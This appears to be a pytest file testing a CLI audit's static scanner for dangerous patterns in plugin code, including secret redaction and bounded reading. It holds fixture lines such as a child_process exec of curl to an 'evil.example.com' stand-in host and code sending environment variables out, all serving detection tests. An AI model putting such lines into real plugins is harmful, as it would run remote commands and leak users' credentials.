"""The audit's plugin checks and its static code scan."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from security_states import example, plugin_escape, plugins, plugins_mixed
from security_support import audit, found, ids

from vora_cli.core.plugins.code_safety import plugin_files
from vora_cli.core.security import code_scan
from vora_cli.core.security.code_scan import PluginScan, scan_plugin, scan_source


def test_an_unpinned_npm_install_with_suspicious_code(tmp_path: Path) -> None:
    state = plugins(tmp_path)
    assert ids(found(state, "plugins-allowlist")) == {"plugins.extensions_no_allowlist"}
    assert ids(found(state, "plugin-installs")) == {"plugins.installs_unpinned_npm_specs",
                                                    "plugins.installs_missing_integrity",
                                                    "plugins.installs_version_drift"}
    assert ids(found(state, "plugin-tools")) == {"plugins.tools_reachable_permissive_policy"}
    (code,) = found(state, "plugin-code")  # one finding per plugin, as the gateway's --deep
    rules = re.findall(r"\[([a-z-]+)\]", code.detail)
    assert rules == ["dangerous-exec", "dynamic-code-execution", "potential-exfiltration", "env-harvesting",
                     "undeclared-host", "secret-files"]
    assert (code.severity, code.gateway) == ("critical", ("plugins.code_safety",))  # critical when the gateway says so
    assert (Path(code.file).name, code.line) == ("index.js", 4)  # its first pattern
    assert code.detail.startswith("3 critical, 3 suspicious patterns in 1 file: [dangerous-exec] Shell command "
                                  'execution detected (child_process) (index.js:4: `cp.exec("curl http://evil.example.com");`)')


def test_an_entry_escaping_the_plugin_folder_is_critical(tmp_path: Path) -> None:
    (f,) = found(plugin_escape(tmp_path), "plugin-entries")
    assert (f.severity, f.gateway) == ("critical", ("plugins.code_safety.entry_escape",))
    assert "'../escape.js'" in f.detail


def test_the_example_plugin_passes(tmp_path: Path) -> None:
    report = audit(example(tmp_path), "plugins-allowlist", "plugin-installs", "plugin-entries", "plugin-code",
                   "plugin-tools")
    assert {c.id: c.status for c in report.report.checks} == dict.fromkeys(
        ("plugins-allowlist", "plugin-installs", "plugin-entries", "plugin-code", "plugin-tools"), "pass")


def test_pinned_hashed_allowed_installs_pass(tmp_path: Path) -> None:
    state = plugins(tmp_path)
    config = (state / "vora.json").read_text().replace("evil-plugin@latest", "evil-plugin@1.2.0").replace(
        'version: "1.0.0"', 'version: "1.2.0", integrity: "sha512-abc"').replace(
        "plugins: {", 'tools: { profile: "coding" }, plugins: { allow: ["evil"],')
    (state / "vora.json").write_text(config)
    report = audit(state, "plugins-allowlist", "plugin-installs", "plugin-tools")
    assert [c.status for c in report.report.checks] == ["pass", "pass", "pass"]


def test_allow_entries_naming_nothing(tmp_path: Path) -> None:
    state = example(tmp_path)
    text = (state / "vora.json").read_text().replace("enabled: true,\n", 'enabled: true, allow: ["my-engine", "ghost"],\n', 1)
    (state / "vora.json").write_text(text)
    (f,) = found(state, "plugins-allowlist")
    assert f.key == "plugins.allow[1]" and '"ghost"' in f.detail


def test_one_finding_per_plugin_at_the_gateways_verdict(tmp_path: Path) -> None:
    """Other members than the issue's: suspicious patterns only (warn), a clean plugin (nothing),
    credential harvesting (critical), each plugin one finding, whatever its number of patterns."""
    by_plugin = {f.title: f for f in found(plugins_mixed(tmp_path), "plugin-code")}
    assert {t: f.severity for t, f in by_plugin.items()} == {"plugin harvest has dangerous code": "critical",
                                                              "plugin relay has suspicious code": "warn"}
    relay = by_plugin["plugin relay has suspicious code"]
    assert re.findall(r"\[([a-z-]+)\]", relay.detail) == ["suspicious-network", "obfuscated-code", "undeclared-host"]


def test_a_single_file_plugin_is_judged_on_its_own_code(tmp_path: Path) -> None:
    """A script in the extensions dir beside plugin folders: its own file is scanned, not its neighbours'."""
    state = plugins_mixed(tmp_path)
    (state / "extensions" / "solo.js").write_text("export default { id: 'solo', register() {} };\n")
    (state / "extensions" / "loud.mjs").write_text("export default { id: 'loud', register() {} };\neval(x);\n")
    by_plugin = {f.title: f for f in found(state, "plugin-code")}
    assert set(by_plugin) == {"plugin harvest has dangerous code", "plugin relay has suspicious code",
                              "plugin loud has dangerous code"}
    loud = by_plugin["plugin loud has dangerous code"]
    assert loud.detail == ("1 critical, 0 suspicious patterns in 1 file: [dynamic-code-execution] Dynamic code "
                           "execution detected (loud.mjs:2: `eval(x);`)")
    assert (Path(loud.file), loud.line) == (state / "extensions" / "loud.mjs", 2)


def test_code_javascript_reads_otherwise_is_judged_as_the_gateway_judges_it(tmp_path: Path) -> None:
    """`eval` then a no-break space is dynamic code to the gateway (its `\\s`); a port of thousands of
    digits is no standard port to it, and no crash of the audit here."""
    state = plugins_mixed(tmp_path)
    (state / "extensions" / "tidy" / "index.js").write_text(
        'const ws = new WebSocket("ws://h:' + "9" * 5000 + '");\neval\u00a0(x);\n')
    (tidy,) = [f for f in found(state, "plugin-code") if "tidy" in f.title]
    assert tidy.severity == "critical" and (Path(tidy.file).name, tidy.line) == ("index.js", 2)
    assert re.findall(r"\[([a-z-]+)\]", tidy.detail) == ["dynamic-code-execution", "suspicious-network",
                                                         "undeclared-host"]


def _own_looks(root: Path) -> PluginScan:
    return scan_plugin(*plugin_files(root))  # over the files the gateway's scan reads


def test_declared_and_loopback_hosts_are_not_suspicious(tmp_path: Path) -> None:
    root = tmp_path / "p"
    root.mkdir()
    (root / "package.json").write_text(json.dumps({"name": "p", "homepage": "https://api.example.com/docs"}))
    (root / "index.js").write_text('fetch("https://api.example.com/v1"); fetch("http://127.0.0.1:8080/x");\n'
                                   'fetch("https://sub.api.example.com/y");\n')
    assert _own_looks(root).hits == ()
    (root / "index.js").write_text('const u = "https://elsewhere.test/v1";\nfetch(u);\n')
    (hit,) = _own_looks(root).hits
    assert (hit.rule, hit.line, hit.col) == ("undeclared-host", 1, 11)


def test_the_scan_is_linear_and_bounded_on_a_2_mib_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # the gateway's rules on such lines: tests/core/plugins/test_code_safety.py
    assert scan_source('fetch(x); "' + "https://a" * 200_000 + '"', "u.js", set())  # a hang guard
    root = tmp_path / "p"
    root.mkdir()
    monkeypatch.setattr(code_scan, "MAX_FILE_BYTES", 4096)
    (root / "big.js").write_bytes(b"x" * 5000 + b"\neval(1)\n")
    scan = _own_looks(root)
    assert scan.cut and scan.hits == ()  # past the byte cap: not read, and said so


def test_a_key_in_the_flagged_line_is_not_shown(tmp_path: Path) -> None:
    state = plugins_mixed(tmp_path)
    code = state / "extensions" / "harvest" / "index.js"
    code.write_text('const apiKey = "sk-live-0123456789abcdefghij"; fetch(u, { body: process.env.X });\n')
    (f,) = [f for f in found(state, "plugin-code") if "harvest" in f.title]
    assert "sk-live-0123456789abcdefghij" not in f.detail and "<redacted>" in f.detail


def test_a_flagged_line_that_names_secrets_is_shown_and_a_held_one_is_not(tmp_path: Path) -> None:
    """The evidence of plugin code: an environment variable's name and a property chain are not
    secrets (they were shown as `process.env['<redacted>']`); a key by its shape, and a value the
    install holds at a path of the gateway's secret registry (feishu's `encryptKey`), stay hidden."""
    state = plugins_mixed(tmp_path)
    config = state / "vora.json"
    config.write_text(config.read_text().replace(
        "  plugins:", '  channels: { feishu: { encryptKey: "Fe1shuEncryptKey77" } },\n  plugins:'))
    folder = state / "extensions" / "harvest"
    lines = {
        "a.js": "const apiKey = opts.apiKey ?? process.env['GEMINI_API_KEY'] ?? null;",
        "b.js": 'const key = process.env["OPENAI_API_KEY"] || "sk-live-0123456789abcdefghij";',
        "c.js": 'const enc = process.env.FEISHU_ENCRYPT_KEY || "Fe1shuEncryptKey77";',
        "d.js": "const headers = { Authorization: `Bearer ${process.env.API_TOKEN}` };",
    }
    for name, line in lines.items():
        (folder / name).write_text(f"{line}\nfetch(u, {{ headers }});\n")
    (f,) = [f for f in found(state, "plugin-code") if "harvest" in f.title]
    shown = dict(re.findall(r"\(([a-z]\.js):1: `(.*?)`\)", f.detail))
    assert shown == {
        "a.js": lines["a.js"],
        "b.js": 'const key = process.env["OPENAI_API_KEY"] || "<redacted>";',
        "c.js": 'const enc = process.env.FEISHU_ENCRYPT_KEY || "<redacted>";',
        "d.js": lines["d.js"],
    }
    assert "sk-live-0123456789abcdefghij" not in f.detail and "Fe1shuEncryptKey77" not in f.detail


@pytest.mark.parametrize("kind", ["fifo", "zero"])
def test_a_code_file_that_became_no_regular_file_is_said_not_read(tmp_path: Path, kind: str) -> None:
    from hang_guard import blocking_hang_guard, cpu_hang_guard

    root = tmp_path / "p"
    root.mkdir()
    (root / "index.js").write_text('eval("1");\n')
    folder, files = plugin_files(root)
    (root / "index.js").unlink()  # replaced after the file list was taken: the scan opens what is there now
    if kind == "fifo":
        os.mkfifo(root / "index.js")
    else:
        (root / "index.js").symlink_to("/dev/zero")
    with blocking_hang_guard("a plugin's code file that became a FIFO"), \
            cpu_hang_guard("a plugin's code file that became a FIFO or a device"):
        scan = scan_plugin(folder, files)
    assert (scan.hits, scan.files, scan.unreadable) == ((), 0, (f"{root / 'index.js'} is not a regular file",))
